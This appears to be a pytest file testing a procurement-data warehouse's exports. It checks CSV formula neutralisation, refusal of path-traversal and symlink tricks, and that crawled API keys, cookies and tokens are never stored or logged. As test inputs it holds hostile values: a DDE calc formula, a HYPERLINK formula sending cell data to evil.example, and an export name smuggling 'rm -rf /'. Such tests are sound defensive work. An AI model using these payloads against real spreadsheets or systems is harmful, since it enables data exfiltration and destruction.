"""Extracts: only known names, only inside the output folder, no path tricks, no formulas a
spreadsheet would run; and no credential a source's URLs or answers carry reaches the raw
store's index, the warehouse, the extracts or the crawl's log."""
from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path

import duckdb
import pytest

from benchmarks.sites import LISTING_HOST, make_site
from flows.stages import fetch_to_dict, parse_fetches, tables_for
from spiders.rawstore import RawStore
from spiders.replay import Archive, ReplayServer
from warehouse.db import DATA_TABLES, migrate
from warehouse.export import EXPORTS, ExportError, export
from warehouse.load import load_batch

ROOT = Path(__file__).resolve().parents[1]
FORMULAS = ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
            '=HYPERLINK("http://evil.example/?"&A1,"open")')
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def _tree(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*")}


@pytest.fixture
def hostile_warehouse(tmp_path):
    """A warehouse whose every text field an extract shows holds a formula."""
    con = duckdb.connect(str(tmp_path / "w.duckdb"))
    migrate(con)
    f = FORMULAS
    load_batch(con, {
        "documents": [{"doc_id": "d1", "url": "https://www.ccgp.gov.cn/x.htm", "source_id": "s", "status": "parsed",
                       "title": f[1], "published_at": "2025-06-27"},
                      {"doc_id": "d2", "url": "https://www.ccgp.gov.cn/y.htm", "source_id": "s", "status": "failed"}],
        "parse_failures": [{"doc_id": "d2", "parser": "ccgp", "error": f[0], "url": "https://www.ccgp.gov.cn/y.htm"}],
        "organizations": [{"org_id": "v", "name": f[0], "name_zh": f[4], "kind": "vendor"},
                          {"org_id": "a", "name": f[2] + " 公安局", "name_zh": f[7], "kind": "agency"}],
        "notices": [{"notice_id": "n1", "doc_id": "d1", "notice_type": "award", "project_name": f[3] + " 视频监控",
                     "project_code": f[5], "agent_raw": f[6], "region": f[8]}],
        "awards": [{"award_id": "x1", "notice_id": "n1", "doc_id": "d1", "vendor_org_id": "v", "agency_org_id": "a",
                    "vendor_raw": f[9], "agency_raw": f[10], "amount": -5.0, "currency": "CNY", "amount_raw": f[2],
                    "date": "2025-06-27", "lot": f[1], "status": f[3], "evidence": f[11], "source_url": "https://www.ccgp.gov.cn/x.htm"}],
        "relationships": [{"relationship_id": "r1", "vendor_org_id": "v", "agency_org_id": "a", "vendor_raw": f[0],
                           "agency_raw": f[1], "relation": f[3], "doc_id": "d1", "evidence": f[11], "method": f[4],
                           "source_url": "https://www.ccgp.gov.cn/x.htm"}],
        "amount_mentions": [{"mention_id": "m1", "doc_id": "d1", "raw": f[2], "value": 1.0, "currency": "USD", "qualifier": f[5],
                             "subject": f[3] + " cameras", "attributed_to": f[0], "kind": "contract", "evidence": f[11],
                             "source_url": "https://www.ccgp.gov.cn/x.htm"}],
    })
    yield con
    con.close()


def test_every_csv_extract_neutralises_every_formula_cell(hostile_warehouse, tmp_path):
    written = export(hostile_warehouse, tmp_path / "out", fmt="csv")
    assert set(written) == set(EXPORTS)
    seen = 0
    for name, (path, _) in written.items():
        with open(path, encoding="utf-8-sig", newline="") as fh:
            for row in csv.DictReader(fh):
                for column, cell in row.items():
                    if cell.startswith(DANGEROUS_START):
                        float(cell)  # only a plain number may start with '-' or '+'
                    if cell.lstrip("'") in FORMULAS and cell.startswith("'"):
                        seen += 1
    assert seen >= 15  # the formulas were exported, each made inert


@pytest.mark.parametrize("name", ["../awards", "awards/../../x", "/etc/passwd", "awards.csv", "", "AWARDS", "awards\x00",
                                  "..", ".", "awards; rm -rf /", "~/awards", "awards/", "\\..\\awards"])
def test_unknown_or_tricky_names_are_refused_and_nothing_is_written(hostile_warehouse, tmp_path, name):
    before = _tree(tmp_path)
    with pytest.raises(ExportError):
        export(hostile_warehouse, tmp_path / "out", [name], "csv")
    assert _tree(tmp_path) - before <= {"out"}
    assert not any((tmp_path / "out").iterdir())


@pytest.mark.parametrize("fmt", ["csv/../../x", "CSV", "parquet;", "../csv", "xlsx"])
def test_unknown_formats_are_refused(hostile_warehouse, tmp_path, fmt):
    with pytest.raises(ExportError):
        export(hostile_warehouse, tmp_path / "out", ["awards"], fmt)
    assert not any((tmp_path / "out").iterdir())


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
@pytest.mark.parametrize("planted", ["{name}.{fmt}", ".{name}.{fmt}.tmp"])
def test_planted_symlinks_never_lead_outside(hostile_warehouse, tmp_path, fmt, planted):
    """A link left in the output folder, under an extract's name or its temporary name, is never
    written through: the export refuses, or replaces the link with the extract."""
    outside = tmp_path / "outside.txt"
    outside.write_text("keep me", encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    (out / planted.format(name="awards", fmt=fmt)).symlink_to(outside)
    try:
        export(hostile_warehouse, out, ["awards"], fmt)
        refused = False
    except ExportError:
        refused = True
    assert outside.read_text(encoding="utf-8") == "keep me"
    if not refused:
        assert not (out / f"awards.{fmt}").is_symlink() and (out / f"awards.{fmt}").stat().st_size > 0


def test_export_writes_only_its_files_inside_the_folder(hostile_warehouse, tmp_path):
    before = _tree(tmp_path)
    export(hostile_warehouse, tmp_path / "out", fmt="csv")
    export(hostile_warehouse, tmp_path / "out", fmt="parquet")
    added = _tree(tmp_path) - before
    expected = {"out"} | {f"out/{n}.{f}" for n in EXPORTS for f in ("csv", "parquet")}
    assert added == expected


# -- credentials ---------------------------------------------------------------------------------------------
TOKENS = {"url": "QS-TOKEN-5b1e", "detail": "DETAIL-SIG-77c0", "cookie": "COOKIE-SESSION-9d2f", "auth": "BEARER-4410aa",
          "failing": "FAILING-KEY-e3c9"}


@pytest.fixture(scope="module")
def tokened_night(tmp_path_factory):
    """A listing whose start URL carries an API key, whose detail links are signed, whose answers set
    cookies and echo an Authorization header, and one of whose signed links always fails."""
    work = tmp_path_factory.mktemp("tokens")
    site = make_site("keyed_portal", 4, seed=51, retries=1)
    start = f"{LISTING_HOST}/keyed_portal/search?api_key={TOKENS['url']}&searchtype=1&page_index=1"
    signed = [f"{u}?access_token={TOKENS['detail']}&id={i}" for i, u in enumerate(site.detail_urls)]
    failing = f"{site.detail_urls[0]}?token={TOKENS['failing']}&id=99"
    listing = site.files["list_1.html"].decode()
    for plain, tokened in zip(site.detail_urls, signed):
        listing = listing.replace(f'"{plain}"', f'"{tokened}"')
    listing = listing.replace("</ul>", f'<li><a href="{failing}">失效链接</a></li></ul>')
    site.files["list_1.html"] = listing.encode()
    for entry in site.entries:
        if entry["url"] == site.listing_url(1):
            entry["url"] = start
        elif entry["url"] == site.listing_url(2):
            entry["url"] = start.replace("page_index=1", "page_index=2")
        elif entry["url"] in site.detail_urls:
            entry["url"] = signed[site.detail_urls.index(entry["url"])]
        entry["headers"] = dict(entry["headers"], **{"Set-Cookie": f"session={TOKENS['cookie']}; HttpOnly",
                                                     "Authorization": f"Bearer {TOKENS['auth']}",
                                                     "X-Amz-Security-Token": TOKENS["auth"]})
    site.entries.append({"method": "GET", "url": failing, "body": None, "status": 503, "headers": {}, "file": None})
    site.write(work / "sources", work / "archive")
    toml = (work / "sources" / "keyed_portal.toml")
    toml.write_text(toml.read_text(encoding="utf-8").replace(site.listing_url(1), start), encoding="utf-8")

    with ReplayServer(Archive.for_sources(["keyed_portal"], root=work / "archive")) as server:
        proc = subprocess.run([sys.executable, "-m", "spiders.crawl", "--source", "keyed_portal", "--raw", str(work / "raw"),
                               "--report", str(work / "report.json"), "--replay-url", server.url, "--sources-dir",
                               str(work / "sources"), "--log-level", "INFO"], capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert proc.returncode == 0, proc.stderr[-3000:]
    store = RawStore(work / "raw")
    fetches = [fetch_to_dict(f) for f in store.fetches()]
    store.close()
    parsed = parse_fetches(fetches, str(work / "raw"), "token-run")
    con = duckdb.connect(str(work / "w.duckdb"))
    migrate(con)
    load_batch(con, tables_for(parsed))
    export(con, work / "out", fmt="csv")
    con.close()
    return {"work": work, "log": proc.stderr + proc.stdout, "fetched": len(fetches)}


def _dump_sqlite(path: Path) -> str:
    import sqlite3

    con = sqlite3.connect(path)
    try:
        return json.dumps(con.execute("SELECT * FROM fetches").fetchall(), ensure_ascii=False)
    finally:
        con.close()


def _dump_duckdb(path: Path) -> str:
    con = duckdb.connect(str(path), read_only=True)
    try:
        return json.dumps({t: con.execute(f"SELECT * FROM {t}").fetchall() for t in DATA_TABLES}, default=str, ensure_ascii=False)
    finally:
        con.close()


def test_the_tokened_source_was_really_crawled(tokened_night):
    assert tokened_night["fetched"] == 4
    report = json.loads((tokened_night["work"] / "report.json").read_text())
    assert report["documents_fetched"] == 4 and report["errors"]  # the failing signed link is reported


@pytest.mark.parametrize("where", ["raw index", "warehouse", "extracts", "crawl report", "crawl log"])
def test_no_credential_is_kept(tokened_night, where):
    work = tokened_night["work"]
    text = {
        "raw index": lambda: _dump_sqlite(work / "raw" / "index.sqlite"),
        "warehouse": lambda: _dump_duckdb(work / "w.duckdb"),
        "extracts": lambda: "".join(p.read_text(encoding="utf-8-sig") for p in sorted((work / "out").glob("*.csv"))),
        "crawl report": lambda: (work / "report.json").read_text(encoding="utf-8"),
        "crawl log": lambda: tokened_night["log"],
    }[where]()
    leaked = [name for name, token in TOKENS.items() if token in text]
    assert leaked == [], f"credentials in the {where}: {leaked}"


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_export_command_writes_from_the_read_only_session(hostile_warehouse, tmp_path, fmt):
    """`procwatch export` reads through the locked, file-less analyst session: both formats must
    still be written, and only inside --out."""
    hostile_warehouse.execute("CHECKPOINT")
    copy = tmp_path / "published.duckdb"
    copy.write_bytes((tmp_path / "w.duckdb").read_bytes())
    before = _tree(tmp_path)
    proc = subprocess.run([sys.executable, "-m", "flows.cli", "export", "--warehouse", str(copy), "--format", fmt,
                           "--out", str(tmp_path / "out"), "awards", "relationships"],
                          capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert _tree(tmp_path) - before == {"out", f"out/awards.{fmt}", f"out/relationships.{fmt}"}
    rows = duckdb.connect().execute(
        f"SELECT count(*) FROM read_{'csv' if fmt == 'csv' else 'parquet'}('{tmp_path / 'out' / f'awards.{fmt}'}')").fetchone()
    assert rows == (1,)
